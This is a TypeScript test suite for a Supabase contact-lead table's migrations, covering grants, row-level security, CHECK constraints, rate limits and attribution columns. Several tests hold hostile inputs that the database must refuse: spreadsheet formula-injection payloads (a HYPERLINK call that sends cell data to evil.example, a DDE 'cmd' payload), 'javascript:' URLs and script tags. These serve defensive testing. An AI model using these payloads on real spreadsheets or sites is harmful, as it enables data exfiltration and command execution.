import { execFileSync } from "node:child_process";
import { randomUUID } from "node:crypto";
import { copyFileSync, mkdtempSync, readdirSync, readFileSync, rmSync } from "node:fs";
import { tmpdir } from "node:os";
import { basename, join } from "node:path";
import type { PGlite } from "@electric-sql/pglite";
import pg from "pg";
import { afterAll, beforeAll, describe, expect, it } from "vitest";
import fc from "fast-check";
import {
  CLICK_ID_PARAMS,
  cleanClickId,
  cleanLandingUrl,
  cleanReferrer,
  cleanText,
  TRACKING_LIMITS,
} from "@/lib/attribution/campaign-touch";
import { clickPlatform } from "@/lib/attribution/click-platform";
import { TOUCH_COLUMNS } from "@/lib/attribution/touch-columns";
import { LEAD_COLUMNS, migrate, RENAMED_MIGRATIONS, type LeadRow } from "@/lib/contact/migrations";
import { contactRequestSchema } from "@/lib/contact/contact-schema";
import { MARKETS } from "@/lib/markets/markets";
import { LeadRejectedError, toRow } from "@/lib/contact/leads-store-contract";
import { startsLikeFormula } from "@/lib/leads/lead-text";
import { sampleLead } from "../support/contact/sample-lead";
import { readDoc } from "../support/docs/project-docs";
import { validContactRequest } from "../support/contact/contact-request";
import { postgresAvailable, startPostgres } from "../support/supabase/postgres-server";
import { emptyDatabase, migratedDatabase } from "../support/supabase/empty-database";

const migrationFiles = () =>
  readdirSync("supabase/migrations")
    .filter((f) => f.endsWith(".sql"))
    .sort();

/** Just what these checks need from a database: run SQL, get rows or a SQLSTATE. */
type Db = {
  exec(sql: string): Promise<void>;
  query(sql: string, params?: unknown[]): Promise<{ rows: Record<string, unknown>[] }>;
  close(): Promise<void>;
};

const lead = (overrides: Partial<LeadRow> = {}): LeadRow => ({
  id: randomUUID(),
  company: "Acme",
  contact_name: "Ana",
  email: "ana@example.com",
  phone_prefix: "52",
  phone: "5512345678",
  phone_e164: "+525512345678",
  country: "usa",
  reason: "goods",
  volume: "0-4999",
  market: "mx",
  tracking_consent: "granted",
  ...overrides,
});

/** An INSERT of exactly the row's columns (with `extra` SQL values after them). */
function insert(row: Partial<LeadRow>, extra: Record<string, string> = {}) {
  const columns = Object.keys(row);
  const values = [...columns.map((_, i) => `$${i + 1}`), ...Object.values(extra)];
  return [
    `insert into contact_submissions (${[...columns, ...Object.keys(extra)].join(", ")}) values (${values.join(", ")})`,
    Object.values(row),
  ] as const;
}

async function asAnon(db: Db, sql: string, params: readonly unknown[] = []) {
  await db.exec("begin; set local role anon;");
  try {
    return await db.query(sql, [...params]);
  } finally {
    await db.exec("rollback");
  }
}
const sqlstate = (p: Promise<unknown>) =>
  p.then(
    () => "ok",
    (e: { code?: string }) => e.code,
  );

/** What a spreadsheet runs as a formula, by its first character (`=`, `+`, `-`, `@`, or a tab or CR before one). */
const FORMULA_STARTS = ["=", "+", "-", "@", "\t", "\r"];

/**
 * A row with every text column the site writes filled with a value the column takes: the lead as the route stores
 * it, from a campaign page, with both touches complete (click ids included) and held.
 */
function fullRow(): LeadRow {
  const touch = (n: number) => ({
    at: `2026-11-0${n}T10:00:00.000Z`,
    landing_url: `https://pagos.example/mx?utm_source=s${n}`,
    referrer: "https://www.google.com/",
    utm_source: `s${n}`,
    utm_medium: "cpc",
    utm_campaign: "pagos-usa",
    utm_term: "pagos internacionales",
    utm_content: "banner",
    gclid: "Cj0KCQiA",
    gbraid: "0AAAAA",
    wbraid: "CjgKEAiA",
    fbclid: "IwAR3abc",
    msclkid: "a1b2c3d4",
  });
  return toRow(
    sampleLead({ page: "importadores-china", held: "no_proof", attribution: { first: touch(1), last: touch(2) } }),
  );
}

function checks(name: string, open: () => Promise<Db>) {
  describe(`the contact_submissions migration on ${name}`, () => {
    let db: Db;
    beforeAll(async () => {
      db = await open();
    });
    afterAll(() => db?.close());

    it("lets anon insert a valid lead, and a repeated id is a unique violation", async () => {
      const row = lead();
      await db.exec("begin; set local role anon;");
      await db.query(...insert(row));
      await db.exec("commit");
      expect(await sqlstate(asAnon(db, ...insert(row)))).toBe("23505");
      const { rows } = await db.query("select count(*)::int as n from contact_submissions where id = $1", [row.id]);
      expect(rows[0]!.n).toBe(1);
    });

    it("never lets anon read, change or delete leads", async () => {
      expect(await sqlstate(asAnon(db, "select * from contact_submissions"))).toBe("42501");
      expect(await sqlstate(asAnon(db, "select count(*) from contact_submissions"))).toBe("42501");
      expect(await sqlstate(asAnon(db, "update contact_submissions set company = 'x'"))).toBe("42501");
      expect(await sqlstate(asAnon(db, "delete from contact_submissions"))).toBe("42501");
      expect(await sqlstate(asAnon(db, "truncate contact_submissions"))).toBe("42501");
      // RETURNING reads the row back, which needs SELECT: why the stores never call .select() after an insert.
      expect(await sqlstate(asAnon(db, `${insert(lead())[0]} returning id`, insert(lead())[1]))).toBe("42501");
    });

    it("grants signed-in users nothing either (the site has no sign-in)", async () => {
      await db.exec("begin; set local role authenticated;");
      try {
        expect(await sqlstate(db.query(...insert(lead())))).toBe("42501");
      } finally {
        await db.exec("rollback");
      }
    });

    it("rejects values outside the form's contract", async () => {
      for (const bad of [
        { country: "mars" },
        { reason: "gambling" },
        { volume: "1-2" },
        { phone_prefix: "44" },
        { market: "de" },
        { phone: "call me" },
        { phone: "55 1234 5678" },
        { phone: "123" },
        { phone_e164: "5512345678" },
        { phone_e164: "+525512345679" },
        { phone_prefix: "1" },
        { email: "not-an-email" },
        { company: "" },
        { company: "   " },
        { company: " Acme" },
        { contact_name: "x".repeat(201) },
        { company: "x".repeat(201) },
        { email: `${"a".repeat(250)}@example.com` },
        { phone: "1".repeat(16) },
      ]) {
        expect(await sqlstate(asAnon(db, ...insert(lead(bad))))).toBe("23514");
      }
    });

    it("stores no text a spreadsheet would run as a formula, in any text column, whatever the role writing it", async () => {
      const { rows } = await db.query(
        "select column_name from information_schema.columns where table_schema = 'public' and table_name = 'contact_submissions' and data_type = 'text' order by ordinal_position",
      );
      const textColumns = rows.map((r) => r.column_name as string);
      // The function's own column, beside every column the site writes.
      const values: Record<string, unknown> = { ...fullRow(), conversion_withheld_reason: "held" };
      expect(textColumns.filter((column) => typeof values[column] !== "string")).toEqual([]);
      await db.exec("begin");
      try {
        expect(await sqlstate(db.query(...insert(values as LeadRow)))).toBe("ok");
      } finally {
        await db.exec("rollback");
      }
      const stored: string[] = [];
      for (const column of textColumns) {
        for (const start of FORMULA_STARTS) {
          const row = { ...values, id: randomUUID(), [column]: `${start}${values[column] as string}` };
          await db.exec("begin");
          try {
            if ((await sqlstate(db.query(...insert(row as LeadRow)))) !== "23514") stored.push(`${column}: ${start}`);
          } finally {
            await db.exec("rollback");
          }
        }
      }
      expect(stored).toEqual([]);
    });

    it("names the field of every CHECK the site's insert can break, so the route's 422 says which", async () => {
      const { rows } = await db.query(
        "select conname from pg_constraint where conrelid = 'public.contact_submissions'::regclass and contype = 'c'",
      );
      const guarded = rows
        .map((r) => r.conname as string)
        .filter((name) => !name.startsWith("contact_submissions_conversion_withheld_reason"));
      expect(guarded.length).toBeGreaterThan(30);
      for (const constraint of guarded)
        expect(new LeadRejectedError(`violates check constraint "${constraint}"`).field, constraint).not.toBe("body");
    });

    it("refuses lead text a spreadsheet would run or a plain-text alert would misread, as the route does", async () => {
      for (const bad of [
        { company: '=HYPERLINK("https://evil.example/?d="&C2,"Ver ficha")' },
        { company: "+1+1" },
        { contact_name: "-2+3" },
        { contact_name: "@SUM(A1)" },
        { company: "Acme\u2028Correo: ceo@bigcorp.example" },
        { company: "Acme\u0085x" },
        { contact_name: "Ana\u009bx" },
        { contact_name: "Ana\u200e Pérez" },
        { contact_name: "Ana\u061c Pérez" },
        { company: "Acme\u200b" },
        { contact_name: "\ufeffAna" },
        { last_utm_campaign: "a\u2028b" },
        { last_utm_source: "a\u200bb" },
        { first_landing_url: "https://pagos.example/mx?utm_source=a%E2%80%A8\u2029" },
      ]) {
        expect(await sqlstate(asAnon(db, ...insert(lead(bad)))), JSON.stringify(bad)).toBe("23514");
      }
      // The route answers such a refusal with 422 naming the field.
      const refusal = await asAnon(db, ...insert(lead({ contact_name: "=1+1" }))).catch((e: Error) => e.message);
      expect(new LeadRejectedError(String(refusal)).field).toBe("contact");
      expect(
        await sqlstate(asAnon(db, ...insert(lead({ company: "A+B Consultores", contact_name: "Ana-María" })))),
      ).toBe("ok");
    });

    it("stores exactly the names the route accepts (500 generated values)", async () => {
      const name = fc.string({
        unit: fc.oneof(
          fc.constantFrom("=", "+", "-", "@", " ", "\t", "\u2028", "\u0085", "\u200e", "\u200b", "\ufeff", "é", "😀"),
          fc.string({ unit: "binary", minLength: 1, maxLength: 1 }),
        ),
        maxLength: 12,
      });
      await fc.assert(
        fc.asyncProperty(name, async (value) => {
          const parsed = contactRequestSchema.safeParse({ ...validContactRequest(), company: value, contact: value });
          if (!parsed.success) return;
          const row = lead({ company: parsed.data.company, contact_name: parsed.data.contact });
          expect(await sqlstate(asAnon(db, ...insert(row))), JSON.stringify(value)).toBe("ok");
        }),
        { numRuns: 500 },
      );
    });

    it("stores every email the route takes; one starting like a formula is refused on both sides (500 generated)", async () => {
      await fc.assert(
        fc.asyncProperty(fc.constantFrom("", "'", ...FORMULA_STARTS), fc.emailAddress(), async (start, address) => {
          const email = `${start}${address}`;
          const parsed = contactRequestSchema.safeParse({ ...validContactRequest(), email });
          if (parsed.success)
            expect(await sqlstate(asAnon(db, ...insert(lead({ email: parsed.data.email })))), email).toBe("ok");
          if (startsLikeFormula(email)) {
            expect(parsed.success, email).toBe(false);
            expect(await sqlstate(asAnon(db, ...insert(lead({ email })))), email).toBe("23514");
          }
        }),
        { numRuns: 500 },
      );
    });

    it("lets anon write only the columns the site sends: the date and the reported conversion are the server's", async () => {
      const row = lead();
      expect(await sqlstate(asAnon(db, ...insert(row, { created_at: "'1999-01-01'" })))).toBe("42501");
      expect(await sqlstate(asAnon(db, ...insert(row, { conversion_reported_at: "now()" })))).toBe("42501");
      expect(await sqlstate(asAnon(db, ...insert(row, { conversion_withheld_reason: "'no_consent'" })))).toBe("42501");
      expect(await sqlstate(asAnon(db, "update contact_submissions set conversion_reported_at = now()"))).toBe("42501");
      expect(
        await sqlstate(asAnon(db, "update contact_submissions set conversion_withheld_reason = 'no_consent'")),
      ).toBe("42501");
      const before = Date.now();
      await db.exec("begin; set local role anon;");
      await db.query(...insert(row));
      await db.exec("commit");
      const { rows } = await db.query(
        "select created_at, conversion_reported_at, phone, phone_e164 from contact_submissions where id = $1",
        [row.id],
      );
      expect(Math.abs(new Date(rows[0]!.created_at as string).getTime() - before)).toBeLessThan(60_000);
      expect(rows[0]).toMatchObject({ conversion_reported_at: null, phone: "5512345678", phone_e164: "+525512345678" });
    });

    it("grants anon INSERT on exactly the columns the site writes: the lead, its attribution and its consent record", async () => {
      const { rows } = await db.query(
        "select column_name from information_schema.column_privileges where table_schema = 'public' and table_name = 'contact_submissions' and grantee = 'anon' and privilege_type = 'INSERT' order by column_name",
      );
      expect(rows.map((r) => r.column_name)).toEqual([...LEAD_COLUMNS].sort());
      expect(TOUCH_COLUMNS.every((c) => (LEAD_COLUMNS as readonly string[]).includes(c))).toBe(true);
    });

    it("stores a lead's two touches and its consent record, as anon", async () => {
      const row = lead({
        first_utm_source: "google",
        first_gclid: "Cj0KCQiA-_x",
        first_landing_url: "https://pagos.example/mx?utm_source=google&gclid=Cj0KCQiA-_x",
        first_referrer: "https://www.google.com/",
        first_touch_at: "2026-11-01T10:00:00.000Z",
        last_utm_source: "Boletín «Noviembre»",
        last_utm_campaign: "cfo 😀",
        last_touch_at: "2026-11-20T10:00:00.000Z",
        tracking_consent: "denied",
        privacy_notice_version: "2026-11-23",
      });
      await db.exec("begin; set local role anon;");
      await db.query(...insert(row));
      await db.exec("commit");
      const { rows } = await db.query(
        "select first_gclid, last_utm_source, last_utm_campaign, tracking_consent, privacy_notice_version from contact_submissions where id = $1",
        [row.id],
      );
      expect(rows[0]).toEqual({
        first_gclid: "Cj0KCQiA-_x",
        last_utm_source: "Boletín «Noviembre»",
        last_utm_campaign: "cfo 😀",
        tracking_consent: "denied",
        privacy_notice_version: "2026-11-23",
      });
    });

    it("refuses tracking and consent values the route never produces", async () => {
      for (const bad of [
        { last_utm_source: "" },
        { last_utm_source: " padded " },
        { last_utm_source: "x".repeat(201) },
        { last_utm_campaign: "a\u0007b" },
        { last_utm_campaign: "a\u202eb" },
        { last_utm_content: "a\u200fb" },
        { last_utm_term: "a\u0085b" },
        { first_gclid: "abc def" },
        { first_fbclid: "a".repeat(301) },
        { first_msclkid: "<script>" },
        { first_landing_url: "javascript:alert(1)" },
        { first_landing_url: `https://pagos.example/${"a".repeat(1_010)}` },
        { last_referrer: "https://a b.example/" },
        { tracking_consent: "maybe" as LeadRow["tracking_consent"] },
        { privacy_notice_version: "23/11/2026" },
      ]) {
        expect(await sqlstate(asAnon(db, ...insert(lead(bad)))), JSON.stringify(bad)).toBe("23514");
      }
    });

    it("accepts whatever the route's cleaning keeps (500 generated values)", async () => {
      const text = fc.string({
        unit: fc.oneof(
          fc.constantFrom("=", "+", "-", "@", "\t", "\r", "'"),
          fc.constant("\u202e"),
          fc.constant("\u2028"),
          fc.constant("\u200b"),
          fc.constant("\u0007"),
          fc.constant(" "),
          fc.constant("😀"),
          fc.constant("é"),
          fc.string({ unit: "binary", minLength: 1, maxLength: 1 }),
        ),
        maxLength: 260,
      });
      await fc.assert(
        fc.asyncProperty(text, fc.webUrl({ withQueryParameters: true, withFragments: true }), async (value, url) => {
          const row = lead({
            last_utm_campaign: cleanText(value, TRACKING_LIMITS.utm) ?? null,
            last_fbclid: cleanClickId(value) ?? null,
            last_landing_url: cleanLandingUrl(`${url}?utm_source=${value}`) ?? null,
            last_referrer: cleanReferrer(`${url}${value}`) ?? null,
          });
          expect(await sqlstate(asAnon(db, ...insert(row))), JSON.stringify(row)).toBe("ok");
        }),
        { numRuns: 500 },
      );
    });

    it("counts leads per source, medium and campaign, by first and last touch, with the query marketers are given", async () => {
      const query = readDoc("docs/marketers.md").fences.find(
        (f) => f.lang === "sql" && f.tag === "campaign-leads",
      )!.content;
      const newsletter = { utm_source: "newsletter", utm_medium: "email", utm_campaign: "a" };
      const google = { utm_source: "google", utm_medium: "cpc", utm_campaign: "b" };
      const touch = (which: "first" | "last", t: Record<string, string>) =>
        Object.fromEntries(Object.entries(t).map(([k, v]) => [`${which}_${k}`, v]));
      await db.exec("begin; delete from contact_submissions;");
      try {
        await db.exec("set local role anon");
        await db.query(...insert(lead({ ...touch("first", newsletter), ...touch("last", google) })));
        await db.query(...insert(lead({ ...touch("first", google), ...touch("last", google), last_gclid: "Cj0KCQ" })));
        await db.query(...insert(lead({ ...touch("first", google), ...touch("last", google) })));
        await db.query(...insert(lead()));
        await db.exec("reset role");
        const { rows } = await db.query(query);
        expect(rows.map((r) => ({ ...r, leads: Number(r.leads) }))).toEqual([
          { touch: "first", source: "google", medium: "cpc", campaign: "b", leads: 2 },
          { touch: "first", source: "(none)", medium: "(none)", campaign: "(none)", leads: 1 },
          { touch: "first", source: "newsletter", medium: "email", campaign: "a", leads: 1 },
          { touch: "last", source: "google", medium: "cpc", campaign: "b", leads: 3 },
          { touch: "last", source: "(none)", medium: "(none)", campaign: "(none)", leads: 1 },
        ]);
      } finally {
        await db.exec("rollback");
      }
    });

    it("names the ad platform of a lead's click ids as the page's visit beacon does, whichever ids it carries", async () => {
      // Every combination of carried and missing click ids, so the lead counts and the visit counts agree.
      for (let carried = 0; carried < 2 ** CLICK_ID_PARAMS.length; carried++) {
        const touch = Object.fromEntries(
          CLICK_ID_PARAMS.filter((_, i) => carried & (2 ** i)).map((id) => [id, "Cj0KCQiA"] as const),
        );
        const { rows } = await db.query(
          `select public.click_platform(${CLICK_ID_PARAMS.map((id, i) => `${id} => $${i + 1}::text`).join(", ")}) as p`,
          CLICK_ID_PARAMS.map((id) => touch[id] ?? null),
        );
        expect(rows[0]!.p ?? undefined, JSON.stringify(touch)).toBe(clickPlatform(touch));
      }
    });

    it("lets the service role record the reported conversion exactly once", async () => {
      const row = lead();
      await db.query(...insert(row));
      const claim = `update contact_submissions set conversion_reported_at = now() where id = $1 and conversion_reported_at is null returning id`;
      await db.exec("begin; set local role service_role;");
      try {
        expect((await db.query(claim, [row.id])).rows).toHaveLength(1);
        expect((await db.query(claim, [row.id])).rows).toHaveLength(0);
        // A lead the function may not report is recorded as withheld, with why.
        const other = lead();
        await db.exec("set local role postgres");
        await db.query(...insert(other));
        await db.exec("set local role service_role");
        expect(
          (
            await db.query(
              "update contact_submissions set conversion_withheld_reason = 'no_consent' where id = $1 returning id",
              [other.id],
            )
          ).rows,
        ).toHaveLength(1);
        expect(
          await sqlstate(
            db.query("update contact_submissions set conversion_withheld_reason = 'bored' where id = $1", [other.id]),
          ),
        ).toBe("23514");
      } finally {
        await db.exec("commit");
      }
    });

    describe("bounds what the project's key can insert", () => {
      /** Runs `sql` as the owner, then `asRole`'s statement as that role, in one transaction that is rolled back. */
      async function within(setup: string, asRole: string, sql: string, params: readonly unknown[] = []) {
        await db.exec(`begin; ${setup}; set local role ${asRole};`);
        try {
          return await sqlstate(db.query(sql, [...params]));
        } finally {
          await db.exec("rollback");
        }
      }
      const two = () => {
        const [a, b] = [lead(), lead()];
        const columns = Object.keys(a);
        const values = (offset: number) => `(${columns.map((_, i) => `$${offset + i + 1}`).join(", ")})`;
        return [
          `insert into contact_submissions (${columns.join(", ")}) values ${values(0)}, ${values(columns.length)}`,
          [...Object.values(a), ...Object.values(b)],
        ] as const;
      };
      const bulk = (n: number) =>
        `insert into contact_submissions (id, company, contact_name, email, phone_prefix, phone, phone_e164, country, reason, volume, market)
           select gen_random_uuid(), 'Acme', 'Ana', 'ana@example.com', '52', '5512345678', '+525512345678', 'usa', 'goods', '0-4999', 'mx'
           from generate_series(1, ${n})`;

      it("one row per statement: PostgREST's array of rows is refused, as a single row is taken", async () => {
        expect(await sqlstate(asAnon(db, ...two()))).toBe("54000");
        expect(await sqlstate(asAnon(db, bulk(50)))).toBe("54000");
        expect(await sqlstate(asAnon(db, ...insert(lead())))).toBe("ok");
        // The service role and the owner (imports, repairs) are not bounded.
        expect(await within("select 1", "service_role", bulk(3))).toBe("ok");
      });

      it("only ids in the form the site gives leads (a UUID v4)", async () => {
        for (const id of ["00000000-0000-0000-0000-000000000000", "6ba7b810-9dad-11d1-80b4-00c04fd430c8"])
          expect(await sqlstate(asAnon(db, ...insert(lead({ id }))))).toBe("42501");
      });

      it("at most 1,000 rows a minute for the whole table, refused with 53000 beyond (PostgREST: 503)", async () => {
        // One transaction, rolled back, takes the rows one case adds to the last: each row costs every CHECK.
        const asAnonHere = async () => {
          await db.exec("savepoint attempt; set local role anon");
          try {
            return await sqlstate(db.query(...insert(lead())));
          } finally {
            await db.exec("rollback to savepoint attempt; release savepoint attempt");
          }
        };
        // The other tests' rows, moved out of the minute.
        await db.exec(
          `begin; update contact_submissions set created_at = created_at - interval '2 minutes'; ${bulk(999)}`,
        );
        try {
          expect(await asAnonHere()).toBe("ok");
          await db.exec(bulk(1));
          expect(await asAnonHere()).toBe("53000");
          // Rows older than a minute do not count.
          await db.exec(
            "update contact_submissions set created_at = now() - interval '61 seconds' where created_at = now()",
          );
          expect(await asAnonHere()).toBe("ok");
        } finally {
          await db.exec("rollback");
        }
      });

      it("runs the bounds in functions the project's keys cannot call", async () => {
        for (const fn of ["contact_submissions_one_row()", "contact_submissions_intake_ceiling()"]) {
          for (const role of ["anon", "authenticated"]) {
            const { rows } = await db.query(`select has_function_privilege($1, 'public.${fn}', 'execute') as may`, [
              role,
            ]);
            expect(rows[0]!.may, `${role} ${fn}`).toBe(false);
          }
        }
      });
    });

    it("keeps row level security on", async () => {
      const { rows } = await db.query("select relrowsecurity from pg_class where relname = 'contact_submissions'");
      expect(rows[0]!.relrowsecurity).toBe(true);
    });

    it("tells the readiness check whether anon may insert leads, without any read grant on them", async () => {
      expect((await asAnon(db, "select public.leads_store_ready() as ready")).rows).toEqual([{ ready: true }]);
      // A grant lost (a bad migration, a hand edit): the site cannot take leads, and readiness says so.
      await db.exec("begin; revoke insert on table public.contact_submissions from anon;");
      try {
        await db.exec("set local role anon");
        expect((await db.query("select public.leads_store_ready() as ready")).rows).toEqual([{ ready: false }]);
      } finally {
        await db.exec("rollback");
      }
    });
  });
}

describe("migrating PGlite", () => {
  it("applies each file once and records it, so reopening a database migrates nothing", async () => {
    const db = await emptyDatabase();
    const files = readdirSync("supabase/migrations")
      .filter((f) => f.endsWith(".sql"))
      .sort();
    expect(await migrate(db)).toEqual(files);
    expect(await migrate(db)).toEqual([]);
    const { rows } = await db.query<{ name: string }>("select name from public.schema_migrations order by name");
    expect(rows.map((r) => r.name)).toEqual(files);
    await db.close();
  });

  it("runs no renamed migration again on a database that applied it under its old name", async () => {
    const db = await migratedDatabase();
    for (const [before, after] of Object.entries(RENAMED_MIGRATIONS)) {
      await db.query("update public.schema_migrations set name = $1 where name = $2", [before, after]);
    }
    expect(await migrate(db)).toEqual([]);
    const { rows } = await db.query<{ name: string }>("select name from public.schema_migrations order by name");
    expect(rows.map((r) => r.name)).toEqual(migrationFiles());
    await db.close();
  });
});

describe("the markets the schema takes", () => {
  // The migrations spell the market codes in their checks (a CHECK cannot call the declaration): a market added to
  // the declaration needs a migration that replaces each of them, and this names any it forgot.
  type Check = { table: string; column: string; definition: string };
  let checks: Check[];
  let db: PGlite;
  beforeAll(async () => {
    db = await migratedDatabase();
    ({ rows: checks } = await db.query<Check>(
      `select t.relname as table, a.attname as column, pg_get_constraintdef(c.oid) as definition
         from pg_constraint c
         join pg_class t on t.oid = c.conrelid
         join pg_namespace n on n.oid = t.relnamespace and n.nspname = 'public'
         join pg_attribute a on a.attrelid = t.oid and a.attnum = any (c.conkey)
        where c.contype = 'c' and a.attname in ('market', 'page')
        order by 1, 2`,
    ));
  });
  afterAll(() => db?.close());

  it("are exactly the declared markets, in every table's market check", async () => {
    const { rows: columns } = await db.query<{ table: string }>(
      `select c.table_name as table from information_schema.columns c
        where c.table_schema = 'public' and c.column_name = 'market' and c.table_name not in
          (select v.table_name from information_schema.views v where v.table_schema = 'public')`,
    );
    const markets = checks.filter((check) => check.column === "market");
    // Every table with a market column checks it.
    expect(markets.map((check) => check.table).sort()).toEqual(columns.map((column) => column.table).sort());
    for (const check of markets) {
      const allowed = [...check.definition.matchAll(/'([^']*)'::text/g)].map((match) => match[1]);
      expect(allowed.sort(), `${check.table}.market`).toEqual([...MARKETS].sort());
    }
  });

  it("are exactly the declared markets, in every page pattern", async () => {
    const pages = checks.filter((check) => check.column === "page");
    expect(pages.length).toBeGreaterThan(0);
    for (const check of pages) {
      const pattern = /page ~ '([^']*)'::text/.exec(check.definition)?.[1];
      expect(pattern, `${check.table}.page has a pattern`).toBeDefined();
      const alternatives = /^\^\/\(([a-z|]+)\)/.exec(pattern!)?.[1]?.split("|");
      expect(alternatives?.sort(), `${check.table}.page`).toEqual([...MARKETS].sort());
      for (const market of MARKETS) {
        const { rows } = await db.query<{ page: boolean; campaign: boolean }>(
          "select $1 ~ $3 as page, $2 ~ $3 as campaign",
          [`/${market}`, `/${market}/importadores-china`, pattern],
        );
        expect(rows[0], `${check.table}.page takes /${market} and its campaign pages`).toEqual({
          page: true,
          campaign: true,
        });
      }
    }
  });
});

describe("migration names", () => {
  // `supabase migration new` stamps the time it runs: a file dated later than the commit that added it would sort
  // after every migration created in between, and `supabase db push` refuses those on a database that applied it.
  it("are dated no later than the commit that added them (or now, before it is committed)", () => {
    const added = new Map<string, number>();
    const log = execFileSync(
      "git",
      ["log", "--no-renames", "--diff-filter=A", "--format=%ct", "--name-only", "--", "supabase/migrations"],
      {
        encoding: "utf8",
      },
    );
    let time = 0;
    for (const line of log.split("\n")) {
      if (/^\d+$/.test(line)) time = Number(line);
      else if (line.startsWith("supabase/migrations/")) added.set(basename(line), time);
    }
    const late = migrationFiles().flatMap((file) => {
      const stamp = /^(\d{4})(\d{2})(\d{2})(\d{2})(\d{2})(\d{2})_/.exec(file);
      if (!stamp) return [`${file}: not named <YYYYMMDDHHMMSS>_<name>.sql`];
      const [, y, mo, d, h, mi, se] = stamp.map(Number) as number[];
      const dated = Date.UTC(y!, mo! - 1, d!, h!, mi!, se!) / 1000;
      const committed = added.get(file) ?? Date.now() / 1000;
      return dated > committed ? [`${file}: dated after ${new Date(committed * 1000).toISOString()}`] : [];
    });
    expect(late).toEqual([]);
  });

  it("map every old name to a file that exists", () => {
    for (const after of Object.values(RENAMED_MIGRATIONS)) expect(migrationFiles()).toContain(after);
  });
});

describe("upgrading a table that already holds leads", () => {
  it("keeps rows stored with a typed phone and no E.164, and applies the new rules to every new row", async () => {
    const files = readdirSync("supabase/migrations")
      .filter((f) => f.endsWith(".sql"))
      .sort();
    const dir = mkdtempSync(join(tmpdir(), "migrations-"));
    copyFileSync(join("supabase/migrations", files[0]!), join(dir, files[0]!));
    const db = await emptyDatabase();
    await migrate(db, dir);
    const old = randomUUID();
    await db.query(
      "insert into contact_submissions (id, company, contact_name, email, phone_prefix, phone, country, reason, volume, market) values ($1, 'Acme', 'Ana', 'ana@example.com', '52', '55 1234-5678', 'usa', 'goods', '0-4999', 'mx')",
      [old],
    );
    for (const file of files.slice(1)) copyFileSync(join("supabase/migrations", file), join(dir, file));
    expect(await migrate(db, dir)).toEqual(files.slice(1));
    const { rows } = await db.query<{ phone: string; phone_e164: string | null }>(
      "select phone, phone_e164 from contact_submissions where id = $1",
      [old],
    );
    expect(rows).toEqual([{ phone: "55 1234-5678", phone_e164: null }]);
    expect(await sqlstate(db.query(...insert(lead({ phone: "55 1234-5678" }))))).toBe("23514");
    // Rows from before the consent record keep none, and a site still on the previous version keeps storing leads
    // (without one, which counts as no consent) while the new version is deployed.
    const { rows: consent } = await db.query<{ tracking_consent: string | null }>(
      "select tracking_consent from contact_submissions where id = $1",
      [old],
    );
    expect(consent).toEqual([{ tracking_consent: null }]);
    const previousSite: Partial<LeadRow> = lead();
    delete previousSite.tracking_consent;
    const anon: Db = {
      exec: async (sql) => void (await db.exec(sql)),
      query: (sql, params) => db.query(sql, params),
      close: () => db.close(),
    };
    expect(await sqlstate(asAnon(anon, ...insert(previousSite)))).toBe("ok");
    await db.close();
    rmSync(dir, { recursive: true, force: true });
  });
});

describe("upgrading to the rule on text a spreadsheet may read", () => {
  it("keeps rows stored before it with their text, and refuses such text in every row from then on", async () => {
    const rule = "20261127180626_lead_formula_text.sql";
    const files = migrationFiles();
    const dir = mkdtempSync(join(tmpdir(), "migrations-"));
    for (const file of files.filter((f) => f < rule)) copyFileSync(join("supabase/migrations", file), join(dir, file));
    const db = await emptyDatabase();
    await migrate(db, dir);
    const before = lead({
      email: "=cmd|'/Ccalc'!A0@victim.example",
      first_utm_source: '=HYPERLINK("https://evil.example")',
    });
    await db.query(...insert(before));
    for (const file of files.filter((f) => f >= rule)) copyFileSync(join("supabase/migrations", file), join(dir, file));
    expect(await migrate(db, dir)).toEqual(files.filter((f) => f >= rule));
    const { rows } = await db.query("select email, first_utm_source from contact_submissions where id = $1", [
      before.id,
    ]);
    expect(rows).toEqual([{ email: before.email, first_utm_source: before.first_utm_source }]);
    expect(await sqlstate(db.query(...insert({ ...before, id: randomUUID() })))).toBe("23514");
    await db.close();
    rmSync(dir, { recursive: true, force: true });
  });
});

describe("upgrading to visitors per grouping", () => {
  it("keeps the days counted before it, each grouping's visitors its slices' added up, as they were shown", async () => {
    const change = "20261206205453_page_visitors_per_grouping.sql";
    const files = migrationFiles();
    const dir = mkdtempSync(join(tmpdir(), "migrations-"));
    for (const file of files.filter((f) => f < change))
      copyFileSync(join("supabase/migrations", file), join(dir, file));
    const db = await emptyDatabase();
    await migrate(db, dir);
    await db.exec(`insert into page_counts (day, market, page, source, medium, campaign, device, visits, form_starts, visitors)
      values ('2026-11-20', 'mx', '/mx', '(direct)', '(none)', '(none)', 'phone', 40, 6, 30),
        ('2026-11-20', 'mx', '/mx', '(direct)', '(none)', '(none)', 'desktop', 10, 1, 8),
        ('2026-11-20', 'mx', '/mx/importadores-china', 'google', 'cpc', 'china', 'phone', 20, 2, 15),
        ('2026-11-21', 'mx', '/mx', '(direct)', '(none)', '(none)', 'phone', 5, 0, null)`);
    for (const file of files.filter((f) => f >= change))
      copyFileSync(join("supabase/migrations", file), join(dir, file));
    expect(await migrate(db, dir)).toEqual(files.filter((f) => f >= change));
    const rows = async (parts: number) =>
      (
        await db.query<{ result: Record<string, unknown>[] }>(
          "select public.page_count_rows('2026-11-01', '2026-11-30', 'mx', $1::smallint) as result",
          [parts],
        )
      ).rows[0]!.result.map(({ day, page, device, visits, visitors }) => ({ day, page, device, visits, visitors }));
    expect(await rows(0)).toEqual(
      expect.arrayContaining([
        { day: "2026-11-20", page: undefined, device: undefined, visits: 70, visitors: 53 },
        { day: "2026-11-21", page: undefined, device: undefined, visits: 5, visitors: undefined },
      ]),
    );
    expect(await rows(1)).toEqual(
      expect.arrayContaining([
        { day: "2026-11-20", page: "/mx", device: undefined, visits: 50, visitors: 38 },
        { day: "2026-11-20", page: "/mx/importadores-china", device: undefined, visits: 20, visitors: 15 },
      ]),
    );
    expect(await rows(15)).toHaveLength(4);
    await db.close();
    rmSync(dir, { recursive: true, force: true });
  });
});

checks("PGlite", async () => {
  const db = await migratedDatabase();
  return {
    exec: async (sql) => void (await db.exec(sql)),
    query: (sql, params) => db.query(sql, params),
    close: () => db.close(),
  };
});

/** What a new Supabase project's database runs before any migration (supabase/postgres's role setup). */
const SUPABASE_DEFAULT_GRANTS = `
  create role anon nologin noinherit;
  create role authenticated nologin noinherit;
  create role service_role nologin noinherit bypassrls;
  grant usage on schema public to postgres, anon, authenticated, service_role;
  alter default privileges in schema public grant all on tables to postgres, anon, authenticated, service_role;
  alter default privileges in schema public grant all on functions to postgres, anon, authenticated, service_role;
